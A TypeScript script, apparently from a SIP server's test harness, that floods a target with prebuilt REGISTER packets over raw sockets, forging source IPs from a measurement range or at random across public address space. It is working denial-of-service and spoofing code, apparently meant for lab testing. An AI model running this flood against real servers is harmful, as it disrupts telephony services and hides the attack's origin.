/**
 * A flood of REGISTERs on the wire, from one source, from some, or from forged ones that never come twice. Runs in the attacker's namespace;
 * arguments are one JSON object (`FloodPlan`); prints one JSON line (`Flooded`). Packets are made beforehand: sending one is a copy of
 * a few bytes and one system call.
 */
import { endpoint, inbound } from '../spec/traffic/datagram.ts';
import { udpPacket } from '../spec/traffic/packets.ts';
import { Random } from '../spec/traffic/random.ts';
import { PHONES } from '../spec/traffic/shapes.ts';
import { requestText } from '../spec/traffic/sip-text.ts';
import { RawSender, Sleep } from './sockets.ts';

export interface FloodPlan {
  target: string;
  /** 0: each packet from another address of all there are. */
  sources: number;
  packetsPerSecond: number;
  seconds: number;
  /** How often it wakes to send what is due; absent: as smoothly as it can. */
  slotMicroseconds?: number;
}

export interface Flooded {
  packets: number;
  refused: number;
  seconds: number;
}

const SLOT_MICROSECONDS = 500;
/** A sender that stood still must not become a burst that no line would carry. */
const BURST_PACKETS_MAX = 200;
const TEMPLATES = 512;
/** 198.18.0.0/15 is for measurements (RFC 2544). */
const FIRST_SOURCE = 0xc6120001;
/** Not of the lab: 192.0.2/24, 198.51.100/24, 203.0.113/24, link-local. */
const LAB = [0xc00002, 0xc63364, 0xcb0071];

const plan = JSON.parse(process.argv[2]) as FloodPlan;
const random = new Random(20_000);
const shape = PHONES.yealink;
const packets = Array.from({ length: TEMPLATES }, (_, i) => template(i));
const sender = new RawSender();
const sleep = new Sleep();
const started = performance.now();
const end = started + plan.seconds * 1000;
let sent = 0;
for (let now = started; now < end; now = performance.now()) {
  const due = Math.floor(((now - started) * plan.packetsPerSecond) / 1000);
  for (const until = Math.min(due, sent + BURST_PACKETS_MAX); sent < until; sent++) {
    const packet = packets[sent % TEMPLATES];
    const source = sourceOf(sent);
    packet[12] = source >>> 24;
    packet[13] = source >>> 16;
    packet[14] = source >>> 8;
    packet[15] = source;
    sender.send(packet);
  }
  sleep.microseconds(plan.slotMicroseconds ?? SLOT_MICROSECONDS);
}
const flooded: Flooded = { packets: sent, refused: sender.refused, seconds: (performance.now() - started) / 1000 };
console.log(JSON.stringify(flooded));

/** The kernel writes the header's checksum (raw(7)); without one of UDP the source can be changed (RFC 768). */
function template(i: number): Uint8Array {
  const [from, to] = [endpoint('198.18.0.1', 5060), endpoint(plan.target, 5060)];
  const user = `${2000 + i}`;
  const text = requestText(
    {
      ...{ method: 'REGISTER', uri: `sip:${to.host}`, from, domain: to.host, fromUser: user, toUser: user, cseq: 1 },
      ...{ fromTag: shape.tag(random), branch: shape.branch(random), callId: shape.callId(random, from.host) },
      ...{ contact: `<sip:${user}@${from.host}:5060>`, expires: 3600 },
    },
    shape,
  );
  const packet = udpPacket(inbound(0, from, to, text), i);
  packet.fill(0, 26, 28);
  return packet;
}

function sourceOf(packet: number): number {
  if (plan.sources > 0) return FIRST_SOURCE + (packet % plan.sources);
  for (;;) {
    const source = (Math.floor(Math.random() * 0xdf000000) + 0x01000000) >>> 0;
    const [first, network] = [source >>> 24, source >>> 8];
    if (first < 224 && first !== 127 && first !== 10 && source >>> 16 !== 0xa9fe && !LAB.includes(network))
      return source;
  }
}
